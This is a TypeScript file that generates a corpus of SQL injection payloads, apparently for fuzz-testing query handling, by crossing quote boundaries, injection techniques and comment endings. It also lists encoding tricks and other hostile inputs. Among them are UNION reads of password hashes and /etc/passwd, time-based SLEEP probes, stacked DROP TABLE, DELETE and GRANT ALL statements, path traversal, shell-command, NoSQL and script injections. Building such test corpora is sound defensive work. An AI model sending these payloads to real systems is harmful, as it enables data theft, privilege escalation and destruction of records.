/** How a value may stand in a statement that is put together by hand, and what closes it there. */
const BOUNDARIES = ["'", '"', "')", '")', "'))", '', '`', '`)', "%'", "\\'", "' ", '\u00bf\'', '\u02bc', '＇', '\u2019', '%bf%27', '%27', '&#39;'] as const

/** What hides the rest of the statement. */
const ENDINGS = ['-- -', '#', '/*', ';%00', '-- \u0000', "AND '1'='1", ''] as const

/** Seconds that a payload asks the database to wait. */
export const ASKED_SECONDS = 30

/** One for each way that a database can be made to talk: by its answer, its error, its time, another SELECT, another statement. */
const TECHNIQUES = [
  ' OR 1=1', " OR 'a'='a'", ' AND 1=2', ' OR 1=1 LIMIT 1', ' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))', ' OR (SELECT COUNT(*) FROM users)>0',
  ` AND SLEEP(${ASKED_SECONDS})`, ` OR SLEEP(${ASKED_SECONDS})`, ` AND (SELECT 1 FROM (SELECT(SLEEP(${ASKED_SECONDS})))x)`, " OR BENCHMARK(900000000,SHA2('x',512))", ` XOR(IF(NOW()=SYSDATE(),SLEEP(${ASKED_SECONDS}),0))XOR `,
  ' UNION SELECT NULL', ' UNION ALL SELECT NULL,NULL,NULL', ' UNION ALL SELECT password_hash FROM users', " UNION SELECT 1,CONCAT(0x71,VERSION(),0x71),3", ' UNION SELECT LOAD_FILE(0x2f6574632f706173737764)',
  ' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT VERSION())))', ' AND UPDATEXML(1,CONCAT(0x2e,(SELECT DATABASE())),1)', ' AND GTID_SUBSET(CONCAT(0x71,VERSION()),1)', ' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
  ' AND EXP(~(SELECT * FROM (SELECT VERSION())x))', " INTO OUTFILE '/tmp/out'", ' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,VERSION())),1)',
  '; DROP TABLE tickets', "; UPDATE users SET password_hash='x'", `; SELECT SLEEP(${ASKED_SECONDS})`, '; DELETE FROM operation_log', "; GRANT ALL ON *.* TO 'x'@'%'",
] as const

/** Bytes, characters and spellings on which escaping by hand, filters and character sets fail. */
const ODDITIES = [
  "'", '"', '\\', "\\'", "\\\\'", '`', "''", "';--", '\0', "\0'", '\x1a', '\b', '\n', '\r\n', '\t', '%', '_', '%%', '%_%', '\\%', '\\_', '*', '?', '??', ':ids', ':reader', ':scope', ':first', '$1', '$$', '@@version', '@x:=1', '${7*7}', '{{7*7}}', '#{7*7}',
  '\u00bf\u0027', '\u00bf\u005c\u0027', '\u8a71\u0027', '\ud83d\ude00\u0027', '\ud800', "\ud800'", "'\udc00", '\ufffe', '\uffff', '\ufeff\'', '\u202e\'', '\u200b', '\u00a0OR\u00a01=1', '\u3000OR\u30001=1', '０ＯＲ１＝１', 'ＳＬＥＥＰ（３０）', '＇ＯＲ１＝１－－', 'ﬀ\'', 'ß\'', 'İ\'', 'ı', 'K', '\u0301\'',
  '%27%20OR%201%3D1', '%2527%20OR%201=1', '%u0027', '\\u0027 OR 1=1', '&apos; OR 1=1', '0x27204f5220313d31', "CHAR(39,32,79,82)", "CONCAT(CHAR(39),'x')", '1e309', '-1e309', 'NaN', 'Infinity', '-0', '9'.repeat(400), '0'.repeat(400), '-1', '1 OR 1=1', '1;1', '1,2', '(1)', '[]', '{}', '[object Object]', 'null', 'undefined', 'true', 'NULL', '\\N',
  '/**/', '/*!50000 OR 1=1*/', '/*!99999 SLEEP(30)*/', '/*M! OR 1=1 */', "'/**/OR/**/1=1#", "'%0aOR%0a1=1#", "'||'1", "'||SLEEP(30)||'", "'&&SLEEP(30)&&'", "'+SLEEP(30)+'", "'*SLEEP(30)*'", "'=0--+", "'<>''", "'in('", "'like'%", "' sounds like '", "' div 1 or '1", "'^'1'^'", "'=''=", "1'1", "1 exec sp_ (or exec xp_)", "' or 1 in (select @@version)--", "admin'--", "' HAVING 1=1--", "' GROUP BY 1--", "' ORDER BY 99--", '`id`', 'id', 't.id', 'password_hash', 'users', 'created_at; DROP', '(SELECT 1)', 'CASE WHEN 1=1 THEN 1 ELSE SLEEP(30) END', 'RAND()', 'IF(1=1,id,no)', 'id,(SELECT*FROM(SELECT(SLEEP(30)))a)',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__proto__.polluted', 'constructor.prototype', 'length', '..', '../../etc/passwd', '....//', 'file:///etc/passwd', '=HYPERLINK("http://x")', '+1', '-1', '@SUM(1)', '<script>alert(1)</script>', '"><img src=x>', '\'"><svg/onload=1>', '$(sleep 30)', '`sleep 30`', '|sleep 30', '; sleep 30', '{"$gt":""}', '{"$ne":null}', '[$ne]', '*)(uid=*', 'a'.repeat(499), '汉'.repeat(499), '😀'.repeat(200), "'".repeat(499), '\\'.repeat(499), '%'.repeat(499), '\0'.repeat(200), '(' .repeat(499), '/*'.repeat(249),
] as const

/** The corpus: every technique behind every boundary, with endings in turn, and the oddities; each once. */
export const PAYLOADS: readonly string[] = [...new Set([
  ...TECHNIQUES.flatMap((technique, one) => BOUNDARIES.map((boundary, other) => `${boundary === '' ? '1' : `x${boundary}`}${technique}${ENDINGS[(one * 5 + other) % ENDINGS.length]}`)),
  ...ODDITIES,
])]
